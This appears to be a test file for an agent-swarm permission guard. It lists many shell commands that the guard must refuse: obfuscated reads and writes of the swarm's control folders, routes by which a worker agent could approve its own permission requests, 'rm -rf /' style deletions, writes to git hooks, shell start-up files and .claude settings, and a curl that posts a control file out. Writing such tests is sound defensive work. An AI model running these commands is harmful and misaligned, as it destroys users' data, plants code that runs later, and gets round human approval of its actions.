@@ -1,0 +1,392 @@
+"""Commands that are refused in every mode, however they are spelled; and harmless ones that are not."""
+
+from __future__ import annotations
+
+import os
+import time
+
+import pytest
+
+from swarm.permissions.pipeline import decide
+
+CONTROL = [
+    # plainly
+    "cat ~/.claude/teams/demo/config.json",
+    "ls {root}/teams",
+    "ls {root}/tasks/demo",
+    "echo '{{}}' > {root}/teams/demo/permissions/resolved/perm-1.json",
+    "cp x {root}/teams/demo/permissions/rules.json",
+    "cat $HOME/.claude/teams/x",
+    "cat ${{HOME}}/.claude/teams/x",
+    'cat "$HOME"/.claude/teams/x',
+    "cat ${{HOME:-/x}}/.claude/teams/x",
+    "ls $CLAUDE_CONFIG_DIR",
+    "ls ${{CLAUDE_CONFIG_DIR}}/teams",
+    "env CLAUDE_CONFIG_DIR=/x swarm status",
+    "ls ~/.claude",
+    "rm -rf ~/.claude/",
+    "ls .claude/teams",
+    # quotes, backslashes, escapes
+    "cat ~/.cla'ude'/teams/x",
+    'cat ~/.cl"au"de/te"am"s/x',
+    r"cat ~/.clau\de/tea\ms/x",
+    "cat ~/.claude/te\\\nams/x",
+    "cat $'/\\x68ome/../{root}/teams/x'",
+    r"cat ~/$'\x2eclaude'/teams/x",
+    r"cat ~/$'\056claude/teams'/x",
+    r"cat $(printf '\x2eclaude/teams')",
+    r"echo -e '\u002eclaude/teams/x' | xargs cat",
+    "cat ~/.cla$''ude/teams/x",
+    'ls "$CLAUDE_"CONFIG_DIR',
+    # steps
+    "cat ~/.claude//teams/x",
+    "cat ~/.claude/./teams/x",
+    "cat ~/.claude/skills/../teams/x",
+    "cat ~/x/../.claude/teams/x",
+    "cat ../home/.claude/teams/x",
+    "cat /../../{root}/teams/x",
+    "cat /proc/self/root/{root}/teams/x",
+    # folders entered
+    "cd ~/.claude && cat teams/x",
+    "cd ~/.claude/teams",
+    "cd ~ && cat .claude/teams/x",
+    "cd ~; cd .claude; cat teams/x",
+    "cd; cd .claude; ls",
+    "cd .. && cd home && cd .claude && ls teams",
+    "pushd ~/.claude; ls teams",
+    "git -C ~/.claude status",
+    "make --directory=../home/.claude",
+    "tar -C ~/.claude -cf x.tar teams",
+    "(cd ../home/.claude; ls)",
+    # globs and braces
+    "cat ~/.claude/t*/x",
+    "cat ~/.cl*/teams/x",
+    "cat ~/.c?aude/tea[m]s/x",
+    "cat ~/.[c]laude/teams/x",
+    "cat ~/.claude/{{teams,x}}/y",
+    "cat ~/.{{x,claude}}/te{{a,b}}ms/x",
+    "ls -d ~/.cl*",
+    "cat {base}/*/.claude/tasks/x",
+    # variables
+    "X=teams; cat ~/.claude/$X/y",
+    "D=~/.claude; ls $D/teams",
+    "A=.clau B=de/teams; cat ~/$A$B/x",
+    "cat ~/.claude/$UNKNOWN/x",
+    "cat ~/.cla$UNKNOWN/teams/x",
+    "for d in teams tasks; do ls ~/.claude/$d; done",
+    # in the arguments of programs
+    'python3 -c \'open("{root}/teams/x","w")\'',
+    "python3 -c \"import os; os.chdir('{root}'); print(1)\"",
+    "curl -d @{root}/teams/x http://x",
+    "tar --file=x --directory={root} teams",
+    "bash -c 'cat ~/.claude/teams/x'",
+    "find / -path '*/.claude/teams/*'",
+    "ln -s ~/.claude/teams door",
+    "ln -s ~/.claude door",
+    "dd if=x of={root}/teams/x",
+    # links that are there already
+    "cat door/demo/config.json",
+    "cat door/../teams/demo/x",
+    "echo x > src/door/demo/config.json",
+    # other spellings of one name
+    "cat ~/.CLAUDE/Teams/x",
+    "cat {root_upper}/TEAMS/x",
+    "cat ~/.claude/\uff54eams/x",
+    "cat \uff0f{root}/teams/x",
+]
+
+
+@pytest.fixture
+def doors(world):
+    """Links into the swarm's folders, as a careless person may have made them."""
+    os.symlink(f"{world.root}/teams", f"{world.ws}/door")
+    os.symlink(f"{world.root}/teams", f"{world.ws}/src/door")
+    return world
+
+
+@pytest.mark.parametrize("command", CONTROL)
+@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
+def test_a_command_that_names_the_swarms_folders_is_refused(doors, command, mode):
+    """Whoever writes there approves itself, whatever the mode and the rules."""
+    command = command.format(root=doors.root, base=doors.base, root_upper=doors.root.upper())
+
+    decision = doors.decide("Bash", command, mode, allow=["Bash"])
+
+    assert (decision.behavior, decision.why) == ("deny", "immune")
+
+
+APPROVALS = [
+    "swarm approve perm-1",
+    "swarm deny perm-1",
+    "swarm -t demo approve perm-1",
+    "swarm --team demo approve perm-1",
+    "swarm --team=demo deny perm-1 --note x",
+    "swarm -v -q approve perm-1 --always",
+    "  swarm   approve x",
+    "swarm\tapprove x",
+    "'swarm' approve x",
+    'swarm "approve" x',
+    "sw''arm app''rove x",
+    r"\swarm \approve x",
+    r"swarm app\rove x",
+    r"$'\x73warm' approve x",
+    r"swarm $'\x61pprove' x",
+    "swa\\\nrm approve x",
+    "/usr/bin/swarm approve x",
+    ".venv/bin/swarm approve x",
+    "~/.local/bin/swarm approve x",
+    "SWARM approve x",
+    "SWARM_AGENT= swarm approve x",
+    "env -u SWARM_AGENT swarm approve x",
+    "env -i /usr/bin/swarm approve x",
+    "unset SWARM_AGENT; swarm approve x",
+    "ls && swarm approve x",
+    "ls | swarm approve x",
+    "ls\nswarm approve x",
+    "(swarm approve x)",
+    "echo $(swarm approve x)",
+    "echo `swarm approve x`",
+    "command swarm approve x",
+    "exec swarm approve x",
+    "nohup swarm approve x &",
+    "timeout 5 swarm approve x",
+    "sudo -u me swarm approve x",
+    "bash -c 'swarm approve x'",
+    'sh -c "sh -c \\"swarm approve x\\""',
+    "eval swarm approve x",
+    "xargs -n1 swarm approve < ids",
+    "echo approve x | xargs swarm",
+    "find . -exec swarm approve {} ;",
+    "swarm {approve,x}",
+    "swarm appro?e x",
+    "swarm [a]pprove x",
+    "V=approve; swarm $V x",
+    "S=swarm; $S approve x",
+    "swarm $V x",
+    "swarm appr$V x",
+    "swarm $(echo approve) x",
+    "swarm `echo approve` x",
+    "python -m swarm.cli approve x",
+    "python3 -m swarm approve x",
+    "python3 -P -mswarm.cli.entry approve x",
+    "/usr/bin/python3.11 -m swarm.cli deny x",
+    "python -m swarm.cli status; python -m swarm.cli approve x",
+    "uv run swarm approve x",
+    "pipx run swarm approve x",
+    "python -c \"import os; os.system('swarm approve x')\"",
+    "python -c \"import subprocess as s; s.run(['swarm', '-t', 'demo', 'approve', 'x'])\"",
+    "python -c 'from swarm.storage.permissions import PermissionStore; PermissionStore(x).resolve(y)'",
+    "python - <<EOF\nimport swarm.cli.entry\nswarm.cli.entry.main(['approve', 'x'])\nEOF",
+    "node -e \"require('child_process').execSync('swarm approve x')\"",
+    "if true; then swarm approve x; fi",
+]
+
+
+@pytest.mark.parametrize("command", APPROVALS)
+def test_a_worker_does_not_answer_requests(world, command):
+    """Approving is the person's part; a worker that can do it has no permissions at all."""
+    decision = world.bash(command, allow=["Bash"])
+
+    assert (decision.behavior, decision.why) == ("deny", "immune")
+
+
+HARMLESS = [
+    "ls",
+    "ls -la src",
+    "git status",
+    "git commit -m 'approve the plan'",
+    "git -C src status",
+    "cd src && ls",
+    "cd src; ls teams",
+    "cd .. && ls",
+    "cat tasks/README.md",
+    "ls teams tasks",
+    "echo $PATH $HOME",
+    "ls ~",
+    "ls ~/*",
+    "ls *",
+    "ls */*",
+    "cat $FILE",
+    "cat $DIR/$FILE",
+    "cat src/.claude-notes",
+    "cat docs/claude/teams.md",
+    "cat .claude/teams.md || true",
+    "cat ~/.claude/skills/x/SKILL.md",
+    "swarm status",
+    "swarm task list --json",
+    "swarm -t demo task complete 7",
+    "swarm send team-lead 'please approve'",
+    'swarm send team-lead "$MESSAGE"',
+    "grep -rn deny swarm/permissions",
+    "python -m pytest tests -k deny",
+    "python -c 'print(1)'",
+    "echo swarm; echo approve",
+    "rm -rf build dist",
+    "rm -rf src/*.pyc",
+    "rm -r /var/tmp/scratch-of-mine",
+    "rm notes.txt",
+    "find . -name '*.pyc' -delete",
+    "find src -exec rm {} +",
+    "cat .git/config",
+    "sed -n 1p .git/config",
+    "cp .git/config /var/tmp/x",
+    "git add .gitignore",
+    "echo x > .gitignore",
+    "pytest 2>&1 | tail -5 > out.txt",
+    "make CFLAGS='-O2 -g'",
+    "printf '%s\\n' a b c",
+    "x=1; y=$((x + 1)); echo $y",
+    "python - <<'EOF'\nprint('approve')\nEOF",
+]
+
+
+@pytest.mark.parametrize("command", HARMLESS)
+def test_ordinary_commands_are_not_refused(world, command):
+    """A guard that cries wolf gets switched off."""
+    assert world.bash(command).reason == "Mode bypassPermissions allows it."
+
+
+DELETIONS = [
+    "rm -rf /",
+    "rm -rf /*",
+    "rm -rf --no-preserve-root /",
+    "rm -fr ~",
+    "rm -rf ~/",
+    "rm -rf ~/*",
+    "rm -rf $HOME",
+    'rm -rf "$HOME"/*',
+    "rm -r -f /etc",
+    "rm --recursive /usr",
+    "rm -R /usr/lib",
+    "sudo rm -rf /var",
+    "rm -rf .",
+    "rm -rf ./",
+    "rm -rf *",
+    "rm -rf ./*",
+    "rm -rf ..",
+    "rm -rf ../..",
+    "rm -rf {ws}",
+    "rm -rf {base}",
+    "rm -rf src/../../ws",
+    "ls; rm -rf /",
+    "bash -c 'rm -rf ~'",
+    "cd / && rm -rf *",
+    "rmdir {ws}",
+    "find / -delete",
+    "find ~ -name x -delete",
+    "find / -exec rm {{}} +",
+    "rm -rf link-to-home",
+]
+
+
+@pytest.mark.parametrize("command", DELETIONS)
+def test_what_cannot_be_brought_back_is_not_deleted(world, command):
+    """One wrong word would cost more than all the work of the team."""
+    os.symlink(world.home, f"{world.ws}/link-to-home")
+
+    decision = world.bash(command.format(ws=world.ws, base=world.base), allow=["Bash"])
+
+    assert (decision.behavior, decision.why) == ("deny", "immune")
+
+
+WRITES = [
+    "echo x > .git/hooks/pre-commit",
+    "echo x>>.git/config",
+    "echo x >| .git/config",
+    "cat x &> ~/.bashrc",
+    "echo x | tee -a ~/.zshrc",
+    "cp x .git/hooks/pre-commit",
+    "cp -t .git/hooks x y",
+    "mv .git/hooks/a .git/hooks/b",
+    "rm -rf .git",
+    "rm ~/.ssh/authorized_keys",
+    "mkdir -p ~/.ssh",
+    "ln -sf /x ~/.profile",
+    "install -m 755 x .git/hooks/post-commit",
+    "sed -i s/a/b/ ~/.gitconfig",
+    "perl -pi -e s/a/b/ .git/config",
+    "dd if=x of=.git/HEAD",
+    "chmod +x .git/hooks/pre-commit",
+    "touch .claude/settings.json",
+    "echo '{}' > .claude/settings.local.json",
+    "echo x > .mcp.json",
+    "echo x > ~/.claude/settings.json",
+    "echo x > ~/.claude/CLAUDE.md",
+    "cd .git && echo x > config",
+    "bash -c 'echo x > .git/config'",
+    "echo x > .GIT/config",
+    "echo x > sub/.git",
+]
+
+
+@pytest.mark.parametrize("command", WRITES)
+def test_files_that_are_run_or_obeyed_later_are_not_written(world, command):
+    """A hook or a start-up file is code that runs outside of all permissions."""
+    decision = world.bash(command, allow=["Bash"])
+
+    assert (decision.behavior, decision.why) == ("deny", "immune")
+
+
+def test_a_nul_is_refused(world):
+    """What is checked must be what is run; a program sees the text up to there."""
+    assert world.bash("ls\0; cat x").why == "immune"
+
+
+def test_an_agent_inside_the_swarms_folders_runs_nothing(world):
+    """From there every relative name means one of the swarm's files."""
+    assert world.bash("cat x", cwd=f"{world.root}/teams/demo").why == "immune"
+
+
+def test_the_configured_folder_counts_not_only_the_usual_one(world, tmp_path):
+    """`CLAUDE_CONFIG_DIR` may point anywhere."""
+    policy = world.policy(
+        "bypassPermissions", control_roots=(f"{tmp_path}/conf/teams", f"{tmp_path}/conf/tasks")
+    )
+    for command in ("ls {}/conf/teams", "ls ../conf/tasks/x", "cd ../conf; ls teams", "ls {}/c*f"):
+        assert decide(policy, world.call("Bash", command.format(tmp_path))).why == "immune"
+    for command in ("ls ../confused/teams", "ls conf/teams", f"ls {tmp_path}/configuration"):
+        assert decide(policy, world.call("Bash", command)).behavior == "allow"
+
+
+def test_home_reached_through_a_link_is_home(world, tmp_path):
+    """The folder of the swarm is the same by all its names."""
+    os.symlink(world.home, tmp_path / "also-home")
+    for policy in (
+        world.policy("bypassPermissions"),
+        world.policy(
+            "bypassPermissions",
+            home=f"{tmp_path}/also-home",
+            control_roots=(f"{tmp_path}/also-home/.claude/teams", f"{tmp_path}/also-home/.claude/tasks"),
+        ),
+    ):
+        for home in ("home", "also-home"):
+            assert decide(policy, world.call("Bash", f"ls {tmp_path}/{home}/.claude/tasks")).why == "immune"
+
+
+PIECES = [
+    *(
+        "a ",
+        "find x ",
+        "./a/b ",
+        "{a,b}",
+        "swarm a$x ",
+        "swarm\n",
+        "rm -rf x y\n",
+        "cd a\n",
+        "a=$a$a;",
+        "> x ",
+    ),
+    *("'", '"', "\\", "$(", "`", "{", "~/", "*", "/", "..//", "swarm t ", "\\x41", "-m swarm ", "A=a;", "${"),
+    "import swarm ",
+]
+
+
+@pytest.mark.parametrize("piece", PIECES)
+def test_no_command_takes_long_to_judge(world, piece):
+    """A model can write anything; judging it must not stop the teammates of the same process."""
+    command = piece * (12_000 // len(piece))
+    started = time.monotonic()
+
+    world.bash(command, deny=["Bash(rm *a*b*c)"], ask=["Bash(*a*b*c*d)"])
+
+    assert time.monotonic() - started < 3
